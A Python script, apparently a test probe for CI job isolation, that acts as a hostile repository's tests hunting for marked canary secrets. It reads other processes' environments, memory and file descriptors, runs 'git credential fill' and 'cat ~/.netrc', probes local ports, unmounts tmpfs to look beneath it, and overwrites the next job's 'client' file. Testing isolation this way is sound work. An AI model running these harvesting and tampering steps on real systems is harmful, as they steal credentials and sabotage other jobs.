"""What a hostile repository's tests run: look wherever a secret of the job's could be.

`python3 burglar.py FOLDER MARK`: print `place: secret` for each that is found. A secret holds the
word canary and, behind it, the mark, which other tests on this machine do not have.
"""

import contextlib
import os
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

# It begins with what is rare: a search that began with any letters would take hours where another
# process holds a megabyte of them.
_SHAPE = re.compile(rf"canary-{sys.argv[2]}[a-z.-]*".encode())
_BEFORE = re.compile(rb"[a-z.-]*\Z")
_LONGEST_BEFORE = 20  # bytes, of a token's prefix
_MOST = 4_000_000  # bytes of a file or a region of memory
_SEARCH = ["git config --list", "git credential fill </dev/null", "env", "cat ~/.netrc", "ps axeww"]


def _processes() -> Iterator[tuple[str, bytes]]:
    lineage = [str(os.getppid())]
    while lineage[-1] not in ("0", ""):
        stat = _read(Path(f"/proc/{lineage[-1]}/stat")).decode("utf-8", "replace")
        lineage.append((stat.rpartition(")")[2].split() or ["", ""])[1])
    for pid in filter(str.isdecimal, (path.name for path in Path("/proc").iterdir())):
        for name in ("environ", "cmdline"):
            yield f"/proc/{pid}/{name}", _read(Path(f"/proc/{pid}/{name}"))
        if pid in lineage:
            yield f"/proc/{pid}/mem", b"".join(_memory(pid))
        with contextlib.suppress(OSError):
            for link in Path(f"/proc/{pid}/fd").iterdir():
                if link.is_file():
                    yield str(link), _read(link)


def _memory(pid: str) -> Iterator[bytes]:
    """Read as a debugger does: it takes the same right as ptrace."""
    with (
        contextlib.suppress(OSError, OverflowError),
        Path(f"/proc/{pid}/maps").open() as maps,
        Path(f"/proc/{pid}/mem").open("rb", 0) as memory,
    ):
        for line in maps:
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            if "rw" in line and end - start <= _MOST:
                with contextlib.suppress(OSError):
                    memory.seek(start)
                    yield memory.read(end - start)


def _files(folder: str) -> Iterator[tuple[str, bytes]]:
    for parent, _, names in os.walk(folder):
        for name in names:
            if name == "client":  # what the next job starts
                with contextlib.suppress(OSError):
                    Path(parent, name).write_text("poisoned")
            if name != "burglar.py":
                yield f"{parent}/{name}", _read(Path(parent, name))


def _network() -> Iterator[tuple[str, bytes]]:
    """What says something to whoever connects; asked nothing, other tests' servers note nothing."""
    for line in _read(Path("/proc/net/tcp")).decode().splitlines()[1:]:
        address, state = line.split()[1], line.split()[3]
        if state == "0A" and address.startswith("0100007F"):  # listens on 127.0.0.1
            port = int(address[-4:], 16)
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", port), 0.05) as connection,
            ):
                yield f"port {port}", connection.recv(_MOST)


def _commands() -> Iterator[tuple[str, bytes]]:
    for command in _SEARCH:
        done = subprocess.run(["sh", "-c", command], capture_output=True, check=False, timeout=10)
        yield command, done.stdout
    # Whoever hides a folder by mounting over it has to expect this.
    inside = "umount -a -t tmpfs; grep -rao 'canary[a-z-]*' \"$0\""
    alone = ["unshare", "-Urm", "sh", "-c", inside, sys.argv[1]]
    with contextlib.suppress(OSError):
        yield "unshare", subprocess.run(alone, capture_output=True, check=False).stdout


def _secrets(content: bytes) -> Iterator[str]:
    for found in _SHAPE.finditer(content):
        start = found.start()
        before = _BEFORE.search(content[max(0, start - _LONGEST_BEFORE) : start])
        yield ((before[0] if before else b"") + found[0]).decode()


def _read(path: Path) -> bytes:
    try:
        with path.open("rb") as file:
            return file.read(_MOST)
    except OSError:
        return b""


def main() -> None:
    """Print each place once for each secret in it."""
    found = set()
    kept = [_files(str(folder)) for folder in Path("/").glob("scripts-*")]
    for source in (_processes(), _files(sys.argv[1]), *kept, _network(), _commands()):
        for place, content in source:
            found |= {(place, secret) for secret in _secrets(content)}
    for place, secret in sorted(found):
        print(f"{place}: {secret}")
    print("searched")


main()
